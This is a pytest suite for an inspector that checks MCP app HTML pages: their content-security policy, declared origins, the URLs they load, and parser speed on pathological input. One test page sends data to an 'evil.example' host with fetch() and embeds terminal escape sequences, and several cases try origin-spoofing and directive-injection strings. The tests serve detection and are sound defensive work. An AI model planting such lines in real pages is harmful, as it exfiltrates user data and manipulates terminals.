"""A page as a server returns it: facts, policy, what it loads; and pages of the worst kind."""

import base64
import time

import pytest

from inspector.features.apps.page import is_html_document, read_page, scan, visible_text
from inspector.features.apps.policy import origin_problem, page_policy

URI = "ui://harbour/board"
HTML = "<!doctype html><html><head><title>Tide</title></head><body><p id=t>-</p></body></html>"
META = {"ui": {"csp": {"connectDomains": ["https://api.example.com"]}, "permissions": {"geolocation": {}}}}


def answer(**changes):
    content = {"uri": URI, "mimeType": "text/html;profile=mcp-app", "text": HTML, "_meta": META} | changes
    return {"contents": [{key: value for key, value in content.items() if value is not ...}]}


def rules(page):
    return sorted({problem.rule for problem in page.all_problems})


def test_the_page_of_the_specification_document():
    """C-APP-12: size, hash and warnings."""
    page = read_page(URI, answer())
    assert len(page.data) == 86
    assert page.sha256 == "24b26c1563c7572f4320d9de6360dfd8db26529ce53ec6b8d89ed758e6aad10e"
    assert page.policy.sources("connect-src") == ("'self'", "https://api.example.com")
    assert (page.title, page.text.text, page.permissions, page.ui_place) == ("Tide", "-", ("geolocation",), "content")
    assert page.all_problems == ()
    assert len(page.warnings) == 2


def test_a_blob_is_the_same_page():
    page = read_page(URI, answer(text=..., blob=base64.b64encode(HTML.encode()).decode()))
    assert (page.source, page.member, page.all_problems) == (HTML, "blob", ())


@pytest.mark.parametrize(("changes", "rule"), [
    ({"mimeType": "text/html"}, "APP-05"), ({"mimeType": "text/html+mcp"}, "APP-05"), ({"mimeType": 7}, "APP-05"),
    ({"uri": "ui://other"}, "APP-06"), ({"uri": ...}, "APP-06"), ({"text": ...}, "APP-06"), ({"text": 7}, "APP-06"),
    ({"blob": "AAAA"}, "APP-06"), ({"text": ..., "blob": "no base64!"}, "APP-06"), ({"text": ""}, "APP-07"),
    ({"text": "<p>x"}, "APP-07"), ({"text": ..., "blob": "/////w=="}, "APP-07"),
    ({"_meta": {"ui": {"csp": []}}}, "APP-08"), ({"_meta": {"ui": {"csp": {"frameDomains": "https://a"}}}}, "APP-08"),
    ({"_meta": {"ui": {"permissions": ["camera"]}}}, "APP-09"), ({"_meta": {"ui": {"domain": 7}}}, "APP-09"),
    ({"_meta": {"ui": {"permissions": {"camera": True}}}}, "APP-09"), ({"_meta": {"ui": {"prefersBorder": 1}}}, "APP-09"),
    ({"text": HTML.replace("<p", "<img src='//a.example/b.png'><p")}, "APP-13"),
])  # fmt: skip
def test_each_fault_has_its_rule(changes, rule):
    assert rule in rules(read_page(URI, answer(**changes)))


@pytest.mark.parametrize("result", [None, 7, [], {}, {"contents": {}}, {"contents": []}, {"contents": [None]}])
def test_an_answer_without_a_page(result):
    assert rules(read_page(URI, result)) == ["APP-06"]


def test_the_content_wins_over_the_list_entry():
    """C-APP-09."""
    listed = {"uri": URI, "_meta": {"ui": {"domain": "b.io"}}}
    both = read_page(URI, answer(_meta={"ui": {"domain": "a.io"}}), listed)
    assert (both.domain, rules(both)) == ("a.io", ["APP-12"])
    alone = read_page(URI, answer(_meta=...), listed)
    assert (alone.domain, alone.ui_place, rules(alone)) == ("b.io", "list entry", [])


def test_without_csp_the_restrictive_default_applies():
    """C-APP-08."""
    policy = page_policy(None)
    assert policy.is_default
    assert policy.sources("connect-src") == ("'none'",)
    assert policy.sources("font-src") == ("'none'",)
    assert policy.directives[0].text == "default-src 'none'"


def test_an_empty_csp_allows_its_own_origin():
    policy = page_policy({"csp": {}})
    assert not policy.is_default
    assert policy.sources("connect-src") == ("'self'",)
    assert (policy.sources("frame-src"), policy.sources("base-uri")) == (("'none'",), ("'self'",))


def test_each_source_has_its_origin():
    """C-APP-07."""
    policy = page_policy(
        {"csp": {"resourceDomains": ["https://cdn.example.com"], "frameDomains": ["https://v.example"]}}
    )
    by_name = {directive.name: directive for directive in policy.directives}
    assert by_name["img-src"].sources[-1] == ("https://cdn.example.com", "csp.resourceDomains")
    assert by_name["img-src"].sources[0].origin == "by the specification"
    assert by_name["frame-src"].text == "frame-src https://v.example"
    assert policy.domains == ("https://cdn.example.com", "https://v.example")


@pytest.mark.parametrize("origin", [
    "https://api.example.com", "wss://a.example:8443", "https://*.example.com", "http://localhost:3000", "https://[::1]:8",
])  # fmt: skip
def test_origins_are_accepted(origin):
    assert origin_problem(origin) == ""


@pytest.mark.parametrize("value", [
    "*", "https://*", "https:", "api.example.com", "'unsafe-eval'", "https://a; script-src *", "https://a.example/path",
    "https://a b", "data:", "javascript://a", "https://a,https://b", 7, None, ["https://a"], "https://a\n", "https://\u202ea",
    "https://*.*.a", "https://user@a.example", "https://" + "a" * 400,
])  # fmt: skip
def test_anything_else_is_not_an_origin_and_not_declared(value):
    """C-APP-07."""
    assert origin_problem(value)
    policy = page_policy({"csp": {"connectDomains": [value]}})
    assert policy.sources("connect-src") == ("'self'",)
    assert [problem.rule for problem in policy.problems] == ["APP-08"]


@pytest.mark.parametrize(("source", "directive"), [
    ('<script src="https://x.example/a.js">', "script-src"), ("<link rel=stylesheet href=https://x.example/a.css>", "style-src"),
    ("<img alt='' src='https://x.example/a.png'>", "img-src"), ('<img srcset="a.png 1x, https://x.example/b 2x">', "img-src"),
    ('<iframe src="//x.example/f">', "frame-src"), ("<script>fetch('https://x.example/a')</script>", "connect-src"),
    ('<script>new WebSocket("wss://x.example")</script>', "connect-src"), ('<base href="https://x.example/">', "base-uri"),
    ('<script>r.open("GET", "https://x.example/a")</script>', "connect-src"),
    ("<style>@import 'https://x.example/a.css'</style>", "style-src"), ("<p style='background:url(https://x.example/a)'>", "img-src"),
    ('<script type=module>import x from "https://x.example/a.js"</script>', "script-src"),
    ("<script>navigator.sendBeacon(`https://x.example/b`)</script>", "connect-src"),
])  # fmt: skip
def test_loaded_urls_and_their_directives(source, directive):
    urls = scan(source, page_policy(None))
    assert [(url.directive, url.allowed) for url in urls.loaded] == [(directive, False)]


@pytest.mark.parametrize("source", [
    '<a href="https://x.example/">', '<svg xmlns="http://www.w3.org/2000/svg">', "<p>https://x.example/a</p>",
    "<script>const docs = 'https://x.example'</script>", "<!-- https://x.example -->",
    '<script>x = new URL("https://x.example")</script>', "<script>fetch(`https://${host}/a`)</script>",
])  # fmt: skip
def test_urls_that_are_only_named_are_not_loaded(source):
    urls = scan(source, page_policy(None))
    assert (urls.loaded, urls.mentioned) == ((), 1)


@pytest.mark.parametrize(("domain", "url", "allowed"), [
    ("https://a.example", "https://a.example/x.js", True), ("https://a.example", "https://b.example/x.js", False),
    ("https://a.example", "https://a.example.evil/x.js", False), ("https://a.example", "https://a.example@evil/x.js", False),
    ("https://*.a.example", "https://c.a.example/x", True), ("https://*.a.example", "https://a.example/x", False),
    ("https://a.example", "http://a.example/x", False), ("http://a.example", "https://a.example/x", True),
    ("https://a.example:8443", "https://a.example/x", False), ("https://a.example", "https://A.EXAMPLE:443/x", True),
])  # fmt: skip
def test_a_url_is_held_against_the_declared_domains(domain, url, allowed):
    policy = page_policy({"csp": {"resourceDomains": [domain]}})
    assert policy.allows("script-src", url) is allowed


@pytest.mark.parametrize(("source", "expected"), [
    (HTML, True), ("\ufeff<!DOCTYPE HTML PUBLIC 'x'><p>", True), ("<!-- a --> <html lang=en><body>", True), ("<p>x", False),
    ("<!doctype html>", False), ("<!--", False), ("{}", False), ("<htmlx>", False),
])  # fmt: skip
def test_an_html_document_is_known_by_its_beginning(source, expected):
    assert is_html_document(source) is expected


def test_the_text_of_a_page_has_no_scripts_and_no_styles():
    source = (
        "<html><head><style>p{}</style></head><body><h1>Ti&amp;de</h1><!-- hidden --><p>1 < 2<script>if(a<b)x()</script>"
        "<button onclick='a>b'>Go</button>"
    )
    assert visible_text(source) == ("Ti&de\n1 < 2\nGo", True)


@pytest.mark.slow
@pytest.mark.parametrize("source", [
    "<script>" * 100_000, "<!--" * 500_000, "<a href='" * 300_000, "<" * 2_000_000, "src=" * 1_000_000,
    "https://" * 400_000, "fetch('https://x.example/" * 100_000, "<p title=\"" + ">" * 2_000_000, "&" * 2_000_000,
    "srcset=\"" * 200_000, "<template><svg>" * 100_000,
], ids=range(11))  # fmt: skip
def test_the_work_is_linear(source):
    before = time.process_time()
    page = read_page(URI, answer(text=source))
    assert page.scan.mentioned >= 0
    assert isinstance(page.text.text, str)
    assert time.process_time() - before < 4


@pytest.mark.slow
def test_a_page_of_20_mb_with_scripts_and_terminal_escapes():
    part = "<script>var a='\x1b]0;x\x07\x1b[2J';fetch('https://evil.example/' + a)</script><p>Tide \x1b[31m</p>\n"
    source = "<!doctype html><html><body>" + part * (20_000_000 // len(part))
    before = time.process_time()
    page = read_page(URI, answer(text=source))
    assert rules(page) == ["APP-13"]
    assert not page.scan.is_whole
    assert page.text.text.startswith("Tide")
    assert not page.text.is_whole
    assert time.process_time() - before < 4
